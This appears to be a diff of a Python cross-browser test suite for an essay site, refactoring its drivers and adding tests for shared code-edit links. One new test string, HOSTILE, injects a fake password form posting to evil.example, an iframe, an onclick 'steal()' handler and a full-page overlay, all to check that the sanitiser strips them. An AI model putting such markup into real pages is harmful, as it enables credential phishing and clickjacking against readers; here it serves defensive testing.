@@ -1,274 +1,42 @@
 """The essay in the three engines readers use: Chromium, Firefox and WebKit.
 
-One list of scenarios (``SCENARIOS``), run in each engine by its own driver: Playwright's own
-builds of the three by Playwright where they are installed; otherwise Debian's, Chromium by
-Playwright, Firefox ESR by npm ``puppeteer-core`` over WebDriver BiDi
-(``tests/engines/firefox.mjs``), WebKitGTK's MiniBrowser by Selenium and WebKitWebDriver
-under Xvfb. An engine with neither build is skipped with the command that installs it
-(a failure under ``CI=true``). What the page does is written once, in
-``tests/engines/scenarios.js``, and every driver evaluates that same code; the Python side
-only opens pages and checks the answers. A scenario an engine cannot run is listed in
-``SKIPS``, with the reason, and reported as skipped. The last tests are the documented
-fallbacks for what an engine lacks (service workers, ``navigator.connection``), in Chromium
-with the feature removed.
+One list of scenarios (``SCENARIOS``), run in each engine by its own driver
+(``tests/engines/drivers.py``): Playwright's own builds of the three where they are
+installed; otherwise Debian's, Chromium by Playwright, Firefox ESR by npm ``puppeteer-core``
+over WebDriver BiDi, WebKitGTK's MiniBrowser by Selenium and WebKitWebDriver under Xvfb. An
+engine with neither build is skipped with the command that installs it (a failure under
+``CI=true``). What the page does is written once, in ``tests/engines/scenarios.js``, and
+every driver evaluates that same code; the Python side only opens pages and checks the
+answers. A scenario an engine cannot run is listed in ``SKIPS``, with the reason, and
+reported as skipped. The last tests are the documented fallbacks for what an engine lacks
+(service workers, ``navigator.connection``), in Chromium with the feature removed.
 """
 
 from __future__ import annotations
 
-import json
+import base64
 import os
 import re
 import subprocess
 import sys
-import warnings
+import zlib
 from collections.abc import Callable, Iterator
-from contextlib import ExitStack, contextmanager
-from dataclasses import dataclass, field
+from contextlib import contextmanager
+from dataclasses import dataclass
 from pathlib import Path
-from typing import IO, Any, Protocol, cast
+from urllib.parse import urlencode
 
 import pytest
-from playwright.sync_api import Browser, BrowserContext, Page, Playwright, Request, expect
-from selenium import webdriver
-from selenium.webdriver.common.proxy import Proxy, ProxyType
-from selenium.webdriver.webkitgtk.options import Options
-from selenium.webdriver.webkitgtk.service import Service
+from playwright.sync_api import Browser, Page, Playwright, expect
 
-from essay_site.assets import cache_dir, npm_project
-from essay_site.dev.browser import (
-    CHROMIUM_ARGS,
-    ENGINES,
-    FIREFOX,
-    MINIBROWSER,
-    WEBKIT_DRIVER,
-    XVFB,
-    Engine,
-    launch_chromium,
-)
+from essay_site.dev.browser import CHROMIUM_ARGS, ENGINES, Engine, launch_chromium
 from essay_site.dev.site_server import SiteServer, serve
-from tests.conftest import engine_build, record_errors
+from tests.conftest import record_errors, shipped_source
+from tests.engines.drivers import Driver, expression, start
 
 pytestmark = pytest.mark.browser
 
-ENGINES_DIR = Path(__file__).parent / "engines"
-SCENARIO_SOURCE = (ENGINES_DIR / "scenarios.js").read_text()
 FIGURES = 6
-#: What the Firefox runner needs: npm's lock pins every package file by its integrity hash.
-RUNNER_FILES = ("package.json", "package-lock.json", "firefox.mjs")
-
-
-def expression(name: str, argument: object = None) -> str:
-    """The async expression every driver evaluates: the shared code, then one of its calls."""
-    call = f"scenarios.{name}({json.dumps(argument)})"
-    return f"(async () => {{\n{SCENARIO_SOURCE}\nreturn await {call};\n}})()"
-
-
-class Driver(Protocol):
-    """What a scenario needs of an engine: open a page, run shared code in it, say what failed."""
-
-    def open(self, url: str) -> None:
-        """A new tab on ``url`` in the same profile (what the last tab recorded is forgotten)."""
-
-    def call(self, name: str, argument: object = None) -> Any:
-        """Run ``scenarios.<name>(argument)`` of scenarios.js in the page; its JSON answer."""
-
-    def errors(self) -> list[str]:
-        """Console errors and uncaught exceptions of the page opened last."""
-
-    def external(self) -> list[str]:
-        """Requests of the page opened last to any host but 127.0.0.1 (all refused)."""
-
-    def close(self) -> None:
-        """Close the browser."""
-
-
-class ScenarioError(AssertionError):
-    """The page side of a scenario failed (a wait timed out, a control was missing)."""
-
-
-#: Playwright's Firefox and WebKit reach no host but 127.0.0.1: the rest go to a dead proxy.
-DEAD_PROXY = {"server": "http://127.0.0.1:9", "bypass": "127.0.0.1"}
-
-
-@dataclass
-class PlaywrightDriver:
-    """A browser driven by Playwright: Chromium (either build), or Playwright's own Firefox
-    or WebKit; no host but 127.0.0.1 is reachable (Chromium's resolver, or a dead proxy)."""
-
-    browser: Browser
-    #: Launched for this driver alone (not the suite's shared Chromium): closed with it.
-    own: bool = False
-    context: BrowserContext | None = None
-    page: Page | None = None
-    seen_errors: list[str] = field(default_factory=list)
-    seen_external: list[str] = field(default_factory=list)
-
-    def open(self, url: str) -> None:
-        # One profile for the session, as in the other engines (no routing: it would hide
-        # the service worker's traffic); the browser itself reaches no other host.
-        if self.context is None:
-            self.context = self.browser.new_context()
-        if self.page is not None:
-            self.page.close()
-        self.seen_errors, self.seen_external = [], []
-        self.page = self.context.new_page()
-        record_errors(self.page, self.seen_errors)
-
-        def request(sent: Request) -> None:
-            if re.match(r"(https?|wss?)://(?!127\.0\.0\.1[:/])", sent.url):
-                self.seen_external.append(sent.url)
-
-        self.page.on("request", request)
-        self.page.goto(url)
-
-    def call(self, name: str, argument: object = None) -> Any:
-        assert self.page is not None
-        try:
-            return self.page.evaluate(expression(name, argument))
-        except Exception as error:  # Playwright's Error: the page side failed
-            raise ScenarioError(str(error)) from error
-
-    def errors(self) -> list[str]:
-        return list(self.seen_errors)
-
-    def external(self) -> list[str]:
-        return list(self.seen_external)
-
-    def close(self) -> None:
-        if self.context is not None:
-            self.context.close()
-        if self.own:
-            self.browser.close()
-
-
-def firefox_runner() -> Path:
-    """The Firefox runner with its pinned packages, installed into the cache on first use."""
-    project = npm_project(ENGINES_DIR, RUNNER_FILES, cache_dir(), "the Firefox runner's packages")
-    return project / "firefox.mjs"
-
-
-class Firefox:
-    """Debian's Firefox ESR, driven by puppeteer-core over WebDriver BiDi (firefox.mjs)."""
-
-    def __init__(self) -> None:
-        self.process = subprocess.Popen(
-            ["node", str(firefox_runner())],
-            stdin=subprocess.PIPE,
-            stdout=subprocess.PIPE,
-            text=True,
-            env={**os.environ, "FIREFOX": FIREFOX},
-        )
-
-    def ask(self, command: dict[str, str]) -> Any:
-        """Send one command to the runner; its answer."""
-        stdin, stdout = cast(IO[str], self.process.stdin), cast(IO[str], self.process.stdout)
-        stdin.write(json.dumps(command) + "\n")
-        stdin.flush()
-        line = stdout.readline()
-        if not line:
-            raise RuntimeError(f"the Firefox runner exited ({self.process.wait()})")
-        answer: dict[str, Any] = json.loads(line)
-        if "error" in answer:
-            raise ScenarioError(answer["error"])
-        return answer["value"]
-
-    def open(self, url: str) -> None:
-        self.ask({"op": "goto", "url": url})
-
-    def call(self, name: str, argument: object = None) -> Any:
-        return self.ask({"op": "evaluate", "expression": expression(name, argument)})
-
-    def errors(self) -> list[str]:
-        return list(self.ask({"op": "errors"})["errors"])
-
-    def external(self) -> list[str]:
-        return list(self.ask({"op": "errors"})["external"])
-
-    def close(self) -> None:
-        cast(IO[str], self.process.stdin).close()  # the runner closes the browser and exits
-        self.process.wait(timeout=30)
-        cast(IO[str], self.process.stdout).close()
-
-
-class WebKit:
-    """WebKitGTK's MiniBrowser, driven by Selenium through WebKitWebDriver, on a private Xvfb.
-
-    WebKitWebDriver has no console log and no way to run a script before the page's own:
-    from the moment a page is open, ``console.error`` and uncaught errors are kept by the
-    page itself (``scenarios.watchErrors``), and a figure that fails says so in its
-    ``data-state`` (checked by every wait for live figures). An error before the page is
-    open is not seen. Requests are not observable either: the browser is given a proxy on a
-    dead port for every host but 127.0.0.1, and the page's Resource Timing is checked.
-    """
-
-    def __init__(self) -> None:
-        self.stack = ExitStack()
-        try:
-            self.driver = self.start()
-        except BaseException:
-            self.stack.close()
-            raise
-        self.driver.set_script_timeout(200)
-
-    def start(self) -> webdriver.WebKitGTK:
-        """Xvfb on a free display, then WebKitWebDriver and MiniBrowser on it."""
-        read, write = os.pipe()
-        xvfb = subprocess.Popen(
-            [XVFB, "-displayfd", str(write), "-screen", "0", "1280x1024x24", "-nolisten", "tcp"],
-            pass_fds=(write,),
-            stderr=subprocess.DEVNULL,
-        )
-        os.close(write)
-        self.stack.callback(xvfb.wait, 10)
-        self.stack.callback(xvfb.terminate)
-        with os.fdopen(read) as display:
-            number = display.readline().strip()
-        assert number, "Xvfb did not start"
-        options = Options()
-        options.binary_location = MINIBROWSER
-        options.add_argument("--automation")
-        dead = "127.0.0.1:9"
-        options.proxy = Proxy(
-            {
-                "proxyType": ProxyType.MANUAL,
-                "httpProxy": dead,
-                "sslProxy": dead,
-                "noProxy": ["127.0.0.1"],
-            }
-        )
-        environment = {**os.environ, "DISPLAY": f":{number}"}
-        with warnings.catch_warnings():
-            # Selenium's own WebKitGTK class still uses what Selenium deprecated (4.51).
-            warnings.filterwarnings("ignore", "setting remote_server_addr", DeprecationWarning)
-            service = Service(executable_path=WEBKIT_DRIVER, env=environment)
-            driver = webdriver.WebKitGTK(service=service, options=options)
-        self.stack.callback(driver.quit)
-        return driver
-
-    def open(self, url: str) -> None:
-        # One window, one profile: the page replaces the last one.
-        self.driver.get(url)
-        self.call("watchErrors")
-
-    def call(self, name: str, argument: object = None) -> Any:
-        script = (
-            "const done = arguments[arguments.length - 1];\n"
-            f"{expression(name, argument)}.then((value) => done({{ value }}),"
-            " (error) => done({ error: String((error && error.message) || error) }));"
-        )
-        answer: dict[str, Any] = self.driver.execute_async_script(script)
-        if "error" in answer:
-            raise ScenarioError(answer["error"])
-        return answer.get("value")
-
-    def errors(self) -> list[str]:
-        return list(self.call("watchedErrors"))
-
-    def external(self) -> list[str]:
-        return []  # not observable here; see the class docstring and `elsewhere`
-
-    def close(self) -> None:
-        self.stack.close()
 
 
 @dataclass
@@ -357,6 +125,104 @@ def a_shared_link_restores_state(session: Session) -> None:
     assert session.driver.errors() == []
 
 
+# A figure's edit shared by a link (share.js): it round-trips, runs only on the reader's
+# click, a link that cannot be offered says why, and what a link's code draws is sanitised.
+
+SHARED = "pixel_explosion"
+EDIT = {"line": "BAR_BITS = 28", "from": "28", "to": "20"}
+#: Appended to the shipped module: its frames also carry markup the figure API never makes.
+HOSTILE = """
+
+_render = render
+
+
+def render(state):
+    frame = _render(state)
+    extra = (
+        '<form action="https://evil.example/"><input name="pw"><button>Sign in</button></form>'
+        '<a href="https://evil.example/">away</a><iframe src="https://evil.example/"></iframe>'
+        '<span id="figure-pixel_explosion" onclick="steal()">clash</span>'
+        '<div data-hostile="cover" style="position: fixed; inset: 0">cover</div>'
+    )
+    return Frame(frame.html + extra, frame.alt, frame.layers)
+"""
+
+
+def packed(source: str) -> str:
+    """Source as a link carries it: raw deflate, then base64url."""
+    squeezer = zlib.compressobj(9, zlib.DEFLATED, -15)
+    data = squeezer.compress(source.encode()) + squeezer.flush()
+    return base64.urlsafe_b64encode(data).decode().rstrip("=")
+
+
+def link(session: Session, fields: dict[str, str], query: str) -> str:
+    """The essay's address with a link's fragment for the shared figure. The query differs
+    from one visit to the next: a change of fragment alone would not load the page anew."""
+    return f"{session.url}?{query}#{urlencode({'edit': SHARED, **fields})}"
+
+
+def shipped_version(session: Session) -> str:
+    """The version of the shared figure's module that links must name."""
+    page = (session.site / "index.html").read_text()
+    found = re.search(
+        rf'data-widget="{SHARED}".*?data-version="(\w+)"[^>]*>\s*<summary', page, re.S
+    )
+    assert found, "no version in the page"
+    return found[1]
+
+
+def a_shared_edit_runs_only_when_asked(session: Session) -> None:
+    session.read()
+    author = session.driver.call("editLink", {"widget": SHARED, **EDIT, "n": 24})
+    assert author["link"].startswith(f"{session.url}?{SHARED}.n=24#edit={SHARED}&version=")
+    session.driver.call("forgetEdits")  # the author's edit is kept here; a reader has none
+    session.visit(author["link"])
+    session.driver.call("allLive", {"count": FIGURES})
+    seen = session.driver.call("consentToLink", {"widget": SHARED})
+    # Live, as shipped, in the link's state: nothing of the link's code has run.
+    before = seen["before"]
+    assert "This link carries a changed version of this figure's code" in before["notice"]
+    assert before["edited"] is None and before["run"] is None, before
+    assert before["alt"] != author["alt"], "the shipped picture differs from the edited one"
+    assert f"- {EDIT['line']}" in seen["change"] and "+ BAR_BITS = 20" in seen["change"]
+    # Once asked: the author's picture, marked as from a link, and not kept for a next visit.
+    assert (seen["run"], seen["edited"], seen["alt"]) == ("ok", "link", author["alt"]), seen
+    assert seen["kept"] == []
+    assert session.driver.errors() == []
+
+
+def a_link_that_cannot_be_offered_says_why(session: Session) -> None:
+    source = shipped_source(session.site, SHARED)
+    version = shipped_version(session)
+    links = {
+        "the link is damaged": {"version": version, "code": packed(source)[:40]},
+        "larger than 64 KB": {"version": version, "code": packed("x" * 70_000)},
+        "made for another version": {"version": "0" * 16, "code": packed(source)},
+    }
+    for index, (reason, fields) in enumerate(links.items()):
+        session.visit(link(session, fields, f"refused={index}"))
+        said = session.driver.call("refusedLink", {"widget": SHARED})
+        assert reason in said["text"] and "The figure shows its own code." in said["text"], said
+        assert said["buttons"] == 0, said
+    session.driver.call("allLive", {"count": FIGURES})
+    assert session.driver.errors() == []
+
+
+def what_a_links_code_draws_is_sanitised(session: Session) -> None:
+    code = packed(shipped_source(session.site, SHARED) + HOSTILE)
+    session.visit(link(session, {"version": shipped_version(session), "code": code}, "hostile"))
+    session.driver.call("allLive", {"count": FIGURES})
+    drawn = session.driver.call("hostileFrame", {"widget": SHARED})
+    assert drawn["run"] == "ok", drawn
+    # The harmless part of the markup stays, without the style that would cover the page.
+    assert drawn["kept"] == {"text": "cover", "style": None, "position": "static"}, drawn
+    assert (drawn["forms"], drawn["handlers"], drawn["ids"]) == (0, 0, 0), drawn
+    # Chromium reports the page's policy refusing the handler as soon as the sanitiser parses
+    # it (in a <template>, where it could never run): that report, and no other error.
+    refused = "Executing inline event handler violates the following Content Security Policy"
+    assert [error for error in session.driver.errors() if refused not in error] == []
+
+
 def from_disk_it_reads_whole_with_one_notice(session: Session) -> None:
     session.visit((session.site / "index.html").as_uri())
     seen = session.driver.call("fromDisk")
@@ -391,6 +257,9 @@ SCENARIOS: dict[str, Callable[[Session], None]] = {
         an_edited_figure_runs,
         no_console_error_and_nothing_from_elsewhere,
         a_shared_link_restores_state,
+        a_shared_edit_runs_only_when_asked,
+        a_link_that_cannot_be_offered_says_why,
+        what_a_links_code_draws_is_sanitised,
         from_disk_it_reads_whole_with_one_notice,
         the_second_visit_reads_with_the_network_off,
     )
@@ -407,17 +276,6 @@ SKIPS: dict[tuple[str, str], str] = {
         "test_second_visit_with_the_network_off_reads_everything"
     ),
 }
-
-
-def start(request: pytest.FixtureRequest, engine: Engine) -> Driver:
-    """A driver for ``engine``'s build here (skipped, or failed under CI, if it has none)."""
-    playwright: Playwright = request.getfixturevalue("playwright")
-    build = engine_build(playwright, engine)
-    if engine == "chromium":
-        return PlaywrightDriver(request.getfixturevalue("browser"))
-    if build == "playwright":
-        return PlaywrightDriver(getattr(playwright, engine).launch(proxy=DEAD_PROXY), own=True)
-    return Firefox() if engine == "firefox" else WebKit()
 
 
 @pytest.fixture(scope="module", params=ENGINES)
